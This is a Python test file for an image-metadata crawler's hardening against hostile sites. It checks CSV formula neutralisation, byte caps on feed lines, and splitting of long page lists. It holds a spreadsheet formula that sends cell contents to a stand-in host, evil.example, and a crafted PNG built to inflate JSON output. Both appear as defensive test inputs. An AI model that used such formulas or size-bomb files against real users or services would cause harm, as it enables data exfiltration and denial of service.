"""What a hostile file or site can make of a feed (issue 23, findings 2, 3 and 8):
the size of one line, the length of ``pages``, and formulas in CSV cells."""

from __future__ import annotations

import csv
import io
import json
import shutil
import struct
import sys
import zlib
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from imgprint.exporters import CsvExporter, SeparatorSafeEncoder, neutralise_formula
from imgprint.items import FIELDS, ImageRecord, page_chunks, split_pages
from imgprint.pipelines import fingerprint_fields
from imgprint.record_caps import (
    MAX_PAGES_BYTES,
    MAX_RECORD_BYTES,
    TRUNCATED,
    cap_bytes,
    json_size,
)
from tests.conftest import Server, run_crawl, static_server
from tests.helpers import EX, whole

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def jpeg_with_comment(comment: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG", comment=comment.encode())
    return out.getvalue()


# -- finding 8: CSV cells that a spreadsheet would run --------------------------

def test_formula_starts_are_neutralised():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_formula(start + "1+2") == "'" + start + "1+2"
    assert neutralise_formula("plain =1") == "plain =1"
    assert neutralise_formula(-3) == -3 and neutralise_formula(True) is True


def test_csv_exporter_neutralises_every_text_cell():
    out = io.BytesIO()
    exporter = CsvExporter(out, fields_to_export=["url", "comment", "software", "width",
                                                  "pages"])
    record = ImageRecord("http://example.com/x.jpg", pages=["@SUM(1)", "http://a/"])
    record.set(comment=FORMULA, software="-2+3", width=64)
    exporter.start_exporting()
    exporter.export_item(record)
    exporter.finish_exporting()
    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert rows[1] == ["http://example.com/x.jpg", "'" + FORMULA, "'-2+3", "64",
                       "'@SUM(1),http://a/"]


@pytest.mark.crawl
def test_csv_feed_of_a_crawl_carries_no_live_formula(tmp_path):
    """Finding 8: a JPEG comment ``=HYPERLINK(...)`` landed in the ``comment``
    cell of ``-O out.csv`` as is: a live link in any spreadsheet."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "evil.jpg").write_bytes(jpeg_with_comment(FORMULA))
    server = static_server(site, tmp_path / "access.jsonl")
    try:
        out_csv = tmp_path / "out.csv"
        crawl = run_crawl(tmp_path, "-a", f"url={server.url('/evil.jpg')}", "-O", str(out_csv))
    finally:
        server.stop()
    assert crawl.returncode == 0, crawl.log[-3000:]
    assert crawl.records[0]["comment"] == FORMULA  # the JSON feed keeps the value
    rows = list(csv.DictReader(out_csv.open(newline="", encoding="utf-8")))
    assert len(rows) == 1
    assert rows[0]["comment"] == "'" + FORMULA
    cells = [v for row in rows for v in row.values() if v]
    assert not [v for v in cells if v[0] in "=+-@\t\r"], cells


# -- finding 2: a feed line's size in bytes, not characters ---------------------

def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def png_of_escapes(keys: int = 24, chars: int = 8192) -> bytes:
    """A PNG of about 4 KB whose text chunks, XMP (iTXt) and IPTC raw profile
    (zTXt) hold ``keys`` values each of ``chars`` characters that JSON writes as
    6-byte escapes: ``\\u0001`` and ``\\u2028``."""
    ctrl, sep = "\x01" * chars, "\u2028" * chars
    out = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    for i in range(keys):
        out += png_chunk(b"zTXt", b"k%02d\0\0" % i + zlib.compress(ctrl.encode("latin-1"), 9))
    props = "".join(f' my:p{i:02d}="{sep}"' for i in range(keys))
    packet = ('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF'
              ' xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description'
              f' xmlns:my="http://example.com/my/"{props}/></rdf:RDF></x:xmpmeta>')
    out += png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\x01\x00\0\0"
                     + zlib.compress(packet.encode(), 9))
    iim = b"".join(b"\x1c\x02" + bytes([n]) + struct.pack(">H", chars) + ctrl.encode("latin-1")
                   for n in range(5, 5 + 3 * keys, 3))
    hexed = iim.hex()
    raw = (f"\niptc\n{len(iim):8d}\n" + "\n".join(hexed[i:i + 72]
                                                  for i in range(0, len(hexed), 72)))
    out += png_chunk(b"zTXt", b"Raw profile type iptc\0\0" + zlib.compress(raw.encode(), 9))
    return out + png_chunk(b"IDAT", zlib.compress(b"\0\0")) + png_chunk(b"IEND", b"")


def feed_line(record: ImageRecord) -> bytes:
    """The record's line as imgprint's JSON-lines exporter writes it."""
    return SeparatorSafeEncoder(ensure_ascii=False).encode(record.to_dict()).encode() + b"\n"


def test_a_small_file_of_escapes_makes_no_huge_line():
    """Finding 2: caps counted characters, the feed writes 6 bytes for each of
    these: a 3.8 KB PNG made a 505,487-byte line (the report's: 553,180)."""
    data = png_of_escapes()
    record = ImageRecord("http://example.com/escapes.png")
    record.set(**fingerprint_fields(whole(data), small=True))
    line = feed_line(record)
    print(f"\n{len(data)}-byte PNG: {len(line)}-byte line")
    assert len(line) <= MAX_RECORD_BYTES
    for field in ("png_text", "xmp", "iptc"):
        value = getattr(record, field)
        assert json_size(value) <= 32 * 1024 + 64, field
        assert TRUNCATED in value  # cut, and says so
        first = next(v for k, v in value.items() if k != TRUNCATED)
        assert first.endswith(TRUNCATED) and first[0] in "\x01\u2028"


def test_every_field_at_its_cap_stays_under_the_bound():
    """Every field a record has, filled past its cap with the costliest
    characters (6 bytes each in the feed), nested where a field takes objects."""
    costly = "\x01\u2028\u0085\"" * 30_000
    nested = {f"k{i}\x01" * 40: [costly] * 100 for i in range(500)}
    record = ImageRecord("http://example.com/x.jpg")
    values = {name: (nested if name in ("exif", "xmp", "iptc", "icc", "png_text", "gps",
                                        "camera", "density") else costly)
              for name in FIELDS if name not in ("url", "pages", "timestamp")}
    record.set(**values)
    line = feed_line(record)
    print(f"\nevery field at its cap: {len(line)}-byte line")
    assert len(line) <= MAX_RECORD_BYTES


@given(st.text(max_size=3000), st.integers(0, 2000))
def test_cap_bytes_keeps_the_longest_prefix_that_fits(text, limit):
    capped = cap_bytes(text, limit)
    if capped == text:
        assert json_size(text) - 2 <= limit
        return
    kept = capped.removesuffix(TRUNCATED)
    assert text.startswith(kept) and json_size(kept) - 2 <= limit
    assert json_size(text[:len(kept) + 1]) - 2 > limit


# -- finding 3: pages in a record, pages held for an image ----------------------

def test_split_pages_loses_nothing_and_bounds_every_line():
    pages = [f"http://site.test/p{i}?" + "x" * (i % 3000) for i in range(1000)]
    record = ImageRecord("http://site.test/x.jpg", pages=list(pages))
    record.set(width=10)
    extra = split_pages(record, 100)
    assert record.pages == pages[:len(record.pages)] and record.width == 10
    assert all(r.seen_before and r.url == record.url for r in extra)
    assert [p for r in [record, *extra] for p in r.pages] == pages
    for r in [record, *extra]:
        assert 1 <= len(r.pages) <= 100 and json_size(r.pages) <= MAX_PAGES_BYTES
    # A page longer than the byte budget still travels, alone.
    assert page_chunks(["a" * (MAX_PAGES_BYTES + 10), "b"], 100) == [
        ["a" * (MAX_PAGES_BYTES + 10)], ["b"]]
    few = ImageRecord("http://site.test/y.jpg", pages=pages[:3])
    assert split_pages(few, 100) == [] and few.pages == pages[:3]


@pytest.mark.crawl
def test_an_image_on_many_pages_makes_bounded_lines(tmp_path):
    """Finding 3: one image on 1,000 same-site pages with 2 KB URLs, answering
    slowly so the pages pile up, made a 2,034,386-byte line. Here 300 pages
    and IMGPRINT_MAX_PAGES_PER_RECORD at its default (100): every page is in
    the feed once, in lines of at most 100 pages."""
    n_pages = 300
    site = tmp_path / "site"
    site.mkdir()
    files = tmp_path / "files"
    files.mkdir()
    shutil.copy(EX / "jpg" / "Canon_40D.jpg", files / "logo.jpg")
    # The image drips one byte a second: its record waits for the timeout.
    faulty = Server([sys.executable, "-m", "tests.servers.faulty_site", str(files),
                     "--log", str(tmp_path / "faulty.jsonl")])
    logo = faulty.url("/drip/logo.jpg")
    (site / "p.html").write_text(f'<html><body><img src="{logo}"></body></html>')
    links = [f"/p.html?n={i:04d}&pad={'x' * 2000}" for i in range(n_pages)]
    (site / "index.html").write_text(
        "<html><body>" + "".join(f'<a href="{u}">{i}</a>' for i, u in enumerate(links))
        + "</body></html>")
    server = static_server(site, tmp_path / "access.jsonl")
    try:
        crawl = run_crawl(tmp_path, "-a", f"url={server.url('/index.html')}", "-a", "depth=1",
                          settings={"DOWNLOAD_TIMEOUT": 10, "RETRY_ENABLED": "False"},
                          timeout=300)
    finally:
        server.stop()
        faulty.stop()
    assert crawl.returncode == 0, crawl.log[-3000:]
    lines = crawl.output.read_bytes().splitlines()
    mine = [r for r in crawl.records if r["url"] == logo]
    print(f"\n{len(mine)} lines for the image, pages per line"
          f" {[len(r['pages']) for r in mine]}, longest line {max(map(len, lines))} bytes")
    assert len([r for r in mine if not r.get("seen_before")]) == 1
    counts = Counter(p for r in mine for p in r["pages"])
    assert set(counts) == {server.url(u) for u in links} and max(counts.values()) == 1
    assert max(len(r["pages"]) for r in mine) <= 100
    assert max(map(len, lines)) <= MAX_RECORD_BYTES + MAX_PAGES_BYTES + 4096
    assert all(json.loads(line) for line in lines)
